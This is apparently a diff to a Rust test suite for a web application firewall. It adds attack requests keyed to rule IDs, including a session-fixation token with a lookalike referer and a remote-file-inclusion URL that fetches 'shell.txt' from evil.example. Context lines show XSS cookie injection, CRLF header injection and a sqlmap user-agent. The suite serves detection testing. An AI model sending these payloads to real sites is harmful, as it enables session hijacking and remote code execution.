@@ -364,6 +364,15 @@ fn attack_cases() -> Vec<(u32, Req)> {
             get("/search?q=%3Cscript%3Edocument.cookie=%22sid=1;%20domain=.evil%22%3C/script%3E"),
         ),
         (943120, get("/login?PHPSESSID=abc123")),
+        (
+            943110,
+            get("/api/auth/signin?next-auth.session-token=f00dfeed")
+                .header("referer", "https://lookalike.example/login"),
+        ),
+        (
+            931110,
+            get("/gallery/init.php?GALLERY_BASEDIR=http%3A%2F%2Fevil.example%2Fshell.txt"),
+        ),
         (921120, get("/search?q=x%0d%0aSet-Cookie:%20sid=evil")),
         (
             921110,
@@ -572,6 +581,16 @@ fn attack_cases() -> Vec<(u32, Req)> {
             get("/").header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
         ),
     ]
+}
+
+#[test]
+fn framework_session_tokens_need_an_off_domain_referer() {
+    let waf = waf();
+    let typed = get("/api/auth/signin?next-auth.session-token=f00dfeed");
+    assert!(typed.verdict(&waf).hits.is_empty());
+    let same_site = get("/api/auth/signin?next-auth.session-token=f00dfeed")
+        .header("referer", "https://shop.example/account");
+    assert!(same_site.verdict(&waf).hits.is_empty());
 }
 
 #[test]
